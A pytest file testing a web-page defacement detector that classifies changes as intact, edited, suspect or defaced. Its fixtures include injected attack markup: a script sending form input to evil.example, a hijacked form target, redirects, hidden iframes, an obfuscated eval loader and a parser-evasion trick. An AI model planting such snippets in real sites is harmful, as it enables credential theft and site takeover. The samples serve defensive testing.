"""What the content of a changed page argues for, change by change."""

from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sentinel.core.compare import compare
from sentinel.core.verdict import Verdict
from support.pages import PAGE, changed, codes, compared, document
from support.values import T0

FILLER = "".join(
    f"<p>Reach {n} of the canal was desilted and its banks were raised.</p>" for n in range(9)
)

VOLATILE = {
    "another visitor count": changed(("10,482", "10,519")),
    "another CSRF token": changed(
        ("a1b2c3d4e5f60718293a4b5c6d7e8f90", "ffeeddccbbaa99887766554433221100"),
        ("0123456789abcdef0123456789abcdef", "fedcba9876543210fedcba9876543210"),
    ),
    "another date": changed(("21 November 2026", "22 November 2026")),
    "another cache buster": changed(("site.css?v=41", "site.css?v=42")),
    "white space, attribute order, comment": changed(
        ('name="csrf_token" value=', 'data-x="" name="csrf_token" value='),
    )
    .replace('data-x="" ', "")
    .replace("</ul>", "</ul>  <!-- built on node 4 -->\n\n"),
}


@pytest.mark.parametrize("name", VOLATILE)
def test_what_changes_by_itself_is_intact(name: str) -> None:
    found = compared(VOLATILE[name])
    assert found.verdict is Verdict.INTACT, found.reasons


HONEST = {
    "a sentence": changed(("</p>\n<h2>", " A new flume was opened.</p>\n<h2>")),
    "a Hindi notice": changed(
        ('<ul id="news">', '<ul id="news"><li>निविदा की अंतिम तिथि बढ़ाई गई</li>')
    ),
    "a link to another site": changed(
        ('<ul id="news">', '<ul id="news"><li><a href="https://other.example/x">Portal</a></li>')
    ),
    "a report about hacking": changed(
        (
            "</ul>",
            '<li><a href="/notices/8">Ministry website hacked by unknown group</a></li></ul>',
        ),
        (
            "<h2>Latest",
            "<p>In an advisory the agency said that two state portals had been hacked last week "
            "and that the sites were restored from backups within a day.</p><h2>Latest",
        ),
    ),
    "an own script": changed(("</body>", '<script src="/assets/menu.js"></script></body>')),
    "a film": changed(
        ("<h2>Latest", '<iframe src="https://www.youtube.com/embed/abc"></iframe><h2>Latest')
    ),
    "an honest owner": changed(
        ("Content owned by the institute.", "Content owned by the Ministry of Water.")
    ),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_edit_is_edited(name: str) -> None:
    found = compared(HONEST[name])
    assert found.verdict is Verdict.EDITED, found.reasons


HOSTILE = {
    "page replaced, with a claim": (
        "<title>Hacked by Night Crew</title><h1>H4CK3D BY NIGHT CREW</h1>",
        "attributed-claim",
    ),
    "page replaced, without words": ('<body bgcolor=black><img src="skull.gif">', "identity-lost"),
    "page replaced, in Hindi": ("<h1>यह साइट हैक कर ली गई है</h1>", "attributed-claim"),
    "page replaced, in UTF-16": (
        "<h1>Hacked by Night Crew</h1>".encode("utf-16-le"),
        "attributed-claim",
    ),
    "heading defaced": (
        changed(("Welcome to the River Works Institute</h1>", "hacked by n1ght cr3w</h1>")),
        "attributed-claim",
    ),
    "title defaced": (
        changed(("| नदी कार्य संस्थान</title>", "| Hacked by Night Crew</title>")),
        "attributed-claim",
    ),
    "look-alike letters": (
        changed(("Welcome to the River Works Institute</h1>", "Нас\u043aеd by Night Crew</h1>")),
        "attributed-claim",
    ),
    "claim drawn by a script": (
        changed(("</body>", "<script>alert('Hacked by Night Crew');</script></body>")),
        "attributed-claim-unseen",
    ),
    "claim in a comment": (
        changed(("</body>", "<!-- hacked by Night Crew --></body>")) + " ",
        "attributed-claim-unseen",
    ),
    "foreign script after the end of the page": (
        changed(("</html>", '</html><script src="https://cdn.evil.example/t.js"></script>')),
        "new-foreign-script",
    ),
    "hidden foreign frame": (
        changed(("</body>", '<iframe src="//evil.example/" hidden></iframe></body>')),
        "new-hidden-frame",
    ),
    "foreign form target": (
        changed(('action="/search"', 'action="https://evil.example/take"')),
        "new-foreign-form-target",
    ),
    "foreign refresh": (
        changed(
            ("<title>", '<meta http-equiv="Refresh" content="0; url=http://evil.example/"><title>')
        ),
        "new-foreign-refresh",
    ),
    "foreign base": (
        changed(("<title>", '<base href="http://evil.example/"><title>')),
        "new-foreign-base",
    ),
    "script as data": (
        changed(("</body>", '<script src="data:text/javascript,x()"></script></body>')),
        "new-data-address",
    ),
    "srcdoc": (changed(("</body>", '<iframe srcdoc="<p>x"></iframe></body>')), "new-inline-frame"),
    "redirect by script": (
        changed(
            ("</body>", "<script>window.location.href='http://evil.example/';</script></body>")
        ),
        "script-redirects-away",
    ),
    "obfuscated script": (
        changed(("</body>", "<script>eval(unescape('" + "%64%6f" * 30 + "'))</script></body>")),
        "obfuscated-script",
    ),
    "script that sends input": (
        changed(
            (
                "</body>",
                "<script>var f=document.querySelectorAll('input');var r=new XMLHttpRequest();"
                "r.open('POST','https://evil.example/c');r.send(f[0].value)</script></body>",
            )
        ),
        "script-sends-input",
    ),
    "hidden links": (
        changed(
            (
                "</body>",
                '<div style="position:absolute;left:-9999px">'
                + "".join(f'<a href="http://s{n}.example/">x</a>' for n in range(4))
                + "</div></body>",
            )
        ),
        "hidden-links",
    ),
    "spam in the title": (changed(("| नदी", "| online casino | नदी")), "spam-in-title"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_change_argues_for_defaced(name: str) -> None:
    after, code = HOSTILE[name]
    found = compared(after)
    assert found.verdict is Verdict.DEFACED, (found.code, found.reasons)
    assert code in codes(found)


WEAK = {
    "public service script": (
        changed(
            ("</body>", '<script src="https://www.googletagmanager.com/gtm.js"></script></body>')
        ),
        "new-service-script",
    ),
    "sister host": (
        changed(("</body>", '<script src="http://stats.institute.example/s.js"></script></body>')),
        "new-related-script",
    ),
    "covered page": (
        changed(("</main>", '</main><div style="position:fixed;width:100%;height:100%"></div>')),
        "page-covered",
    ),
    "owner's own notice": (
        changed(("<h2>Latest", "<p>We regret to say that we have been hacked.</p><h2>Latest")),
        "notice",
    ),
}


@pytest.mark.parametrize("name", WEAK)
def test_unusual_but_explainable_is_suspect(name: str) -> None:
    after, code = WEAK[name]
    found = compared(after)
    assert found.verdict is Verdict.SUSPECT, (found.code, found.reasons)
    assert code in codes(found)


def test_known_hosts_are_no_news() -> None:
    """A host that other approved pages use may appear on this one."""
    after = changed(("</body>", '<script src="https://cdn.partner.example/a.js"></script></body>'))
    assert compared(after, known_hosts=("cdn.partner.example",)).verdict is Verdict.EDITED
    assert compared(after).verdict is Verdict.SUSPECT


@pytest.mark.parametrize(
    "code",
    [
        '<script src="https://chat.window.example/w.js" async></script>',
        '<iframe src="https://maps.window.example/m" width="600" height="400"></iframe>',
        "<script>var s=document.createElement('script');s.src='//chat.window.example/w.js';"
        "document.head.appendChild(s)</script>",
    ],
)
def test_code_of_a_new_host_alone_is_suspect(code: str) -> None:
    """An attacker brings such code, and so does who adds a chat window: a person decides."""
    found = compared(changed(("</body>", f"{code}</body>")))
    assert (found.verdict, found.rule) == (Verdict.SUSPECT, "S10")
    claim = ("Annual report of the hydraulics laboratory</a>", "</a>Hacked by Night Crew")
    assert compared(changed(("</body>", f"{code}</body>"), claim)).verdict is Verdict.DEFACED


def test_a_cut_page_is_corrupt() -> None:
    long = changed(("<h2>Latest", FILLER + "<h2>Latest"))
    for end in (len(long) // 3, len(long) // 2, len(long) - 40):
        assert compared(long[:end], long).code == "truncated"


def test_a_cut_page_whose_token_changed_is_corrupt_too() -> None:
    long = changed(("<h2>Latest", FILLER + "<h2>Latest"))
    cut = long[: len(long) // 2].replace("0123456789abcdef", "1111111111111111")
    assert compared(cut, long).verdict is Verdict.CORRUPT


@pytest.mark.parametrize(
    "after", [b"", b" \n", b"\x89PNG\r\n\x1a\n" + b"\0" * 80, bytes(range(256)) * 9]
)
def test_bytes_that_are_no_page_are_corrupt(after: bytes) -> None:
    assert compared(after).verdict is Verdict.CORRUPT


def test_a_claim_on_an_error_page_counts() -> None:
    found = compared("<title>503 Service Unavailable</title><h1>Hacked by Night Crew</h1>")
    assert found.verdict is Verdict.DEFACED


def test_dates_run_on_only_with_the_clock() -> None:
    """Known times: a date is volatile only where it is that of the look and of the learning."""
    tomorrow = T0 + timedelta(days=1)
    before = changed(("21 November 2026", "22 November 2026"))
    runs_on = changed(("21 November 2026", "23 November 2026"))
    leaps = changed(("21 November 2026", "1 March 2031"))
    assert compared(runs_on, before, before_at=T0, after_at=tomorrow).verdict is Verdict.INTACT
    assert compared(leaps, before, before_at=T0, after_at=tomorrow).verdict is Verdict.EDITED


def test_ignored_regions_hide_text_but_nothing_active() -> None:
    options = {"ignore": ("#news",)}
    text = changed(("Annual report", "Half-yearly report"))
    assert compared(text, **options).verdict is Verdict.INTACT
    script = changed(("</ul>", '<script src="//evil.example/x.js"></script></ul>'))
    assert compared(script, **options).verdict is Verdict.SUSPECT
    claim = changed(("Annual report of the hydraulics laboratory</a>", "</a>Hacked by Night Crew"))
    assert compared(claim, **options).verdict is Verdict.DEFACED


def test_what_the_parser_does_not_read_cannot_hide() -> None:
    """Markup that a browser and the parser read differently still breaks equality."""
    trick = "<svg><style><script src=//evil.example></script></style></svg>"
    assert compared(changed(("</body>", trick + "</body>"))).verdict is not Verdict.INTACT


def test_a_security_site_may_speak_of_hacking() -> None:
    site = changed(
        ("<h2>Latest", "<p>Phishing, malware, exploits and ransomware: advisories.</p><h2>Latest")
    )
    after = site.replace(
        "<h2>Latest",
        "<h3>Hospital hacked by ransomware gang</h3><p>The gang hacked it.</p><h2>Latest",
    )
    assert compared(after, site).verdict is Verdict.EDITED


def test_reasons_and_exits_are_sentences() -> None:
    found = compared(HOSTILE["foreign script after the end of the page"][0])
    assert "cdn.evil.example" in found.reasons[0]
    assert any(line.startswith("Not intact") for line in found.exits)
    assert all(len(signal.quote) <= 200 for signal in found.signals)


@given(st.binary(max_size=400))
@settings(max_examples=60)
def test_a_page_equals_itself(body: bytes) -> None:
    assert compare(document(body), document(body)).verdict is Verdict.INTACT


@given(st.binary(max_size=300), st.binary(max_size=300))
@settings(max_examples=60)
def test_any_two_bodies_can_be_compared(before: bytes, after: bytes) -> None:
    found = compare(document(before), document(b"<p>" + after))
    assert found.verdict in set(Verdict)


def test_large_hostile_pages_are_bounded() -> None:
    """Deep nesting, endless tags and unclosed comments: compared without recursion."""
    for after in (b"<div>" * 200_000, b"<!--" * 100_000, b"<a " * 100_000, b"\0" * 100_000):
        assert compare(document(PAGE), document(after)).verdict is not Verdict.INTACT
